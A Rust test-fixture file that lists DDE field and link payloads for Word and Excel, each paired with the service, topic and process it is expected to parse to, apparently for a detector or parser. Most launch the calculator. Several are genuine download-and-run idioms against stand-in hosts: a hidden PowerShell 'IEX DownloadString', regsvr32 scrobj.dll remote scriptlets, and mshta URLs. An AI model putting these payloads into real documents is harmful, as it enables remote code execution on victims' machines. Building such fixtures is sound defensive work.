//! Payloads with what each must yield: the public idioms of `spec/word.md` §0.5 and
//! `spec/excel.md` §5.5, all harmless (they start the calculator or name example hosts).

/// A DDE field instruction, and what it means.
pub struct FieldPayload {
    pub name: &'static str,
    /// As it stands in the field.
    pub instruction: String,
    pub auto: bool,
    pub service: &'static str,
    pub topic: &'static str,
    pub item: Option<&'static str>,
    pub image: &'static str,
}

const DECOY: &str =
    r"C:\\Programs\\Microsoft\\Office\\MSWord.exe\\..\\..\\..\\..\\windows\\system32\\";

/// `DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"`: the case that every table calls "std".
pub const STD: &str = r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe""#;
pub const STD_SERVICE: &str = r"c:\windows\system32\cmd.exe";
pub const STD_TOPIC: &str = "/k calc.exe";

pub fn fields() -> Vec<FieldPayload> {
    vec![
        FieldPayload {
            name: "P1",
            instruction: format!(" {STD} "),
            auto: true,
            service: STD_SERVICE,
            topic: STD_TOPIC,
            item: None,
            image: "cmd.exe",
        },
        FieldPayload {
            name: "P2",
            instruction: format!(
                r#"DDEAUTO "{DECOY}cmd.exe" "/c calc.exe" "for security reasons""#
            ),
            auto: true,
            service: r"C:\Programs\Microsoft\Office\MSWord.exe\..\..\..\..\windows\system32\cmd.exe",
            topic: "/c calc.exe",
            item: Some("for security reasons"),
            image: "cmd.exe",
        },
        FieldPayload {
            name: "P3",
            instruction: format!(
                "DDEAUTO \"{DECOY}WindowsPowerShell\\\\v1.0\\\\powershell.exe -NoP -sta -NonI \
                 -W Hidden IEX (New-Object System.Net.WebClient).DownloadString('http://x/a.ps1'); \
                 # \" \"Microsoft Document Security Add-On\""
            ),
            auto: true,
            service: "C:\\Programs\\Microsoft\\Office\\MSWord.exe\\..\\..\\..\\..\\windows\\\
                      system32\\WindowsPowerShell\\v1.0\\powershell.exe -NoP -sta -NonI -W Hidden \
                      IEX (New-Object System.Net.WebClient).DownloadString('http://x/a.ps1'); # ",
            topic: "Microsoft Document Security Add-On",
            item: None,
            image: "powershell.exe",
        },
        FieldPayload {
            name: "P5",
            instruction: r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll ""#.to_owned(),
            auto: true,
            service: STD_SERVICE,
            topic: "/k regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll ",
            item: None,
            image: "cmd.exe",
        },
        FieldPayload {
            name: "P10",
            instruction: r#"DDEAUTO MSEXCEL\\..\\..\\..\\Windows\\System32\\cmd.exe "/c calc""#.to_owned(),
            auto: true,
            service: r"MSEXCEL\..\..\..\Windows\System32\cmd.exe",
            topic: "/c calc",
            item: None,
            image: "cmd.exe",
        },
        FieldPayload {
            name: "lower case, plain DDE, no blank before the quote",
            instruction: r#"dde"mshta" "http://example.invalid/a.hta""#.to_owned(),
            auto: false,
            service: "mshta",
            topic: "http://example.invalid/a.hta",
            item: None,
            image: "mshta.exe",
        },
        FieldPayload {
            name: "F7, single backslashes",
            instruction: r#"DDEAUTO "c:\windows\system32\cmd.exe" "/k""#.to_owned(),
            auto: true,
            service: STD_SERVICE,
            topic: "/k",
            item: None,
            image: "cmd.exe",
        },
    ]
}

/// A DDE link of a workbook.
pub struct LinkPayload {
    pub service: &'static str,
    pub topic: &'static str,
    pub item: &'static str,
    pub image: &'static str,
}

pub fn links() -> Vec<LinkPayload> {
    vec![
        LinkPayload {
            service: "cmd",
            topic: "/c calc.exe",
            item: "zz",
            image: "cmd.exe",
        },
        LinkPayload {
            service: "MSEXCEL",
            topic: r"\..\..\..\Windows\System32\cmd.exe /c calc.exe",
            item: "zz",
            image: "cmd.exe",
        },
        LinkPayload {
            service: "MSEXCEL",
            topic: r"\..\..\..\Windows\System32\regsvr32 /s /n /u /i:http://x scrobj.dll",
            item: "zz",
            image: "regsvr32.exe",
        },
        LinkPayload {
            service: "rundll321234567890abc",
            topic: "URL.dll,OpenURL calc.exe",
            item: "zz",
            image: "rundll32.exe",
        },
        LinkPayload {
            service: r"C:\Windows\System32\mshta",
            topic: "http://x/a.hta",
            item: "zz",
            image: "mshta.exe",
        },
    ]
}
